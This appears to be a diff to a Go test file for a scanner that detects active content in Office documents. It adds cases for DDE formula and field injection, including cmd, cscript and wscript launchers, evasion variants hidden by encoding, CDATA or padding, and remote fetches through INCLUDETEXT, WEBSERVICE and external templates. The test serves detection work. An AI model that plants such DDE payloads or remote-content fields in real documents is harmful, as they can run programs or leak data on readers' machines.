@@ -53,6 +53,20 @@ func TestWhatActsInOfficePackagesIsNamed(t *testing.T) {
 		"DDE in runs":        {member{name: "word/footer1.xml", content: []byte(`<w:ftr xmlns:w="x"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:ftr>`)}, DDE},
 		"DDE, simple":        {member{name: "word/footer1.xml", content: []byte(`<w:ftr xmlns:w="x"><w:fldSimple w:instr=" dde excel"/></w:ftr>`)}, DDE},
 		"DDE in a sheet":     {member{name: "xl/worksheets/sheet1.xml", content: []byte(`<sheetData><c><f>cmd|' /C calc'!A0</f></c></sheetData>`)}, DDE},
+		"any program":        {member{name: "xl/worksheets/sheet1.xml", content: []byte(`<x:c><x:f t="a>b">1+cscript&#124;&apos; /x&apos;!A0</x:f></x:c>`)}, DDE},
+		"a program, broken":  {member{name: "xl/worksheets/sheet1.xml", content: []byte(`<c><f>cscript<!-- -->|<![CDATA[' /x'!]]>A0</f></c>`)}, DDE},
+		"DDE in a name":      {member{name: "xl/workbook.xml", content: []byte(`<definedName name="a">wscript|'x'!A0</definedName>`)}, DDE},
+		"DDE elsewhere":      {member{name: "foo/d.dat", content: []byte(`<w:p xmlns:w="x"><w:fldSimple w:instr=" DDEAUTO cmd.exe calc "/></w:p>`)}, DDE},
+		"DDE in Latin-1":     {member{name: "word/footer1.xml", content: []byte("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><w:p>\xe9<w:fldSimple w:instr=\"DDEAUTO a b\"/></w:p>")}, DDE},
+		"DDE in XML 1.1":     {member{name: "word/footer1.xml", content: []byte(`<?xml version="1.1"?><w:p><w:fldSimple w:instr="DDEAUTO a b"/></w:p>`)}, DDE},
+		"DDE in UTF-16":      {member{name: "word/footer1.xml", content: append([]byte("\xff\xfe"), wideOf(`<?xml version="1.0" encoding="UTF-16"?><w:p>㱁<w:fldSimple w:instr="DDEAUTO a b"/></w:p>`)...)}, DDE},
+		"DDE behind many":    {member{name: "word/footer1.xml", content: []byte(`<w:p>` + strings.Repeat(`<w:fldSimple w:instr="`+strings.Repeat("PAGE ", 2000)+`"/>`, 120) + `<w:fldSimple w:instr="DDEAUTO a b"/></w:p>`)}, DDE},
+		"a picture by HTTP":  {member{name: "word/footer1.xml", content: []byte(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://a.example/x.png&quot; \d "/>`)}, ExternalObject},
+		"a text by UNC":      {member{name: "word/footer1.xml", content: []byte(`<w:fldSimple w:instr=" INCLUDETEXT \\\\192.0.2.1\\x\\a.docx "/>`)}, ExternalObject},
+		"a text by file":     {member{name: "word/footer1.xml", content: []byte(`<w:fldSimple w:instr=" INCLUDETEXT &quot;file://a.example/a.docx&quot; "/>`)}, ExternalObject},
+		"a link by HTTP":     {member{name: "word/footer1.xml", content: []byte(`<w:fldSimple w:instr=" LINK Excel.Sheet.12 http://a.example/a.xlsx "/>`)}, ExternalObject},
+		"a web service":      {member{name: "xl/worksheets/sheet1.xml", content: []byte(`<c><f>_xlfn.WEBSERVICE("http://a.example/"&amp;A1)</f></c>`)}, ExternalObject},
+		"a template, 1.1":    {member{name: "word/_rels/settings.xml.rels", content: bytes.Replace(relationship("attachedTemplate", "https://example.org/a.dotm", "External"), []byte(`"1.0"`), []byte(`"1.1"`), 1)}, ExternalTemplate},
 		"DDE by link":        {member{name: "xl/externalLinks/externalLink1.xml", content: []byte(`<externalLink><ddeLink ddeService="cmd"/></externalLink>`)}, DDE},
 	} {
 		a := scanFile(t, "a.docx", wordPackage(t, c.member))
@@ -101,11 +115,26 @@ func TestWhatIsOrdinaryInOfficePackagesIsClean(t *testing.T) {
 		"a link":           {name: "word/_rels/document.xml.rels", content: relationship("hyperlink", "https://example.org/", "External")},
 		"a local template": {name: "word/_rels/settings.xml.rels", content: relationship("attachedTemplate", "file:///C:/Users/a/Normal.dotm", "External")},
 		"a page field":     {name: "word/footer1.xml", content: []byte(`<w:ftr xmlns:w="x"><w:instrText> PAGE </w:instrText></w:ftr>`)},
+		"a bar in a text":  {name: "xl/worksheets/sheet2.xml", content: []byte(`<c><f>IF(A1="x|y!z",'Q1|Q2'!A1,CONCATENATE(A1,"|",B1))</f><v>a|b!c</v></c><c><f/></c>`)},
+		"a local picture":  {name: "word/footer2.xml", content: []byte(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\Users\\a\\p.png&quot; \* MERGEFORMAT "/>`)},
+		"a word on it":     {name: "word/footer3.xml", content: []byte(`<w:t>WEBSERVICE(1) DDEAUTO a|b!c instrText</w:t>`)},
+		"another alphabet": {name: "word/footer4.xml", content: append([]byte("\xff\xfe"), wideOf(`<?xml version="1.0" encoding="UTF-16"?><w:t>㱁 instrText 㸀</w:t>`)...)},
 		"a formula":        {name: "xl/worksheets/sheet1.xml", content: []byte(`<sheetData><c><f>SUM(A1:A2)</f></c></sheetData>`)},
 	} {
 		if a := scanFile(t, "a.docx", wordPackage(t, m)); a.Verdict != Clean {
 			t.Errorf("%s is %s %v", name, a.Verdict, allReasons(a))
 		}
+	}
+}
+
+func TestPartsOfOfficePackagesThatCannotBeReadAreErrors(t *testing.T) {
+	for name, content := range map[string]string{
+		"word/document2.xml":    `<?xml version="1.0" encoding="UTF-7"?><w:p>+ADw-w:fldSimple w:instr=+ACI-DDEAUTO a+ACI-/+AD4-</w:p>`,
+		"word/a.xml":            "\x4c\xa6\x7a\x97\x6e",
+		"word/b.xml":            `<w:p><w:fldSimple w:instr="PAGE"/><w:p \x01="`,
+		"word/_rels/a.xml.rels": `<Relationships><Relationship `,
+	} {
+		want(t, scanFile(t, "a.docx", wordPackage(t, member{name: name, content: []byte(content)})), Error, MalformedDocument)
 	}
 }
 
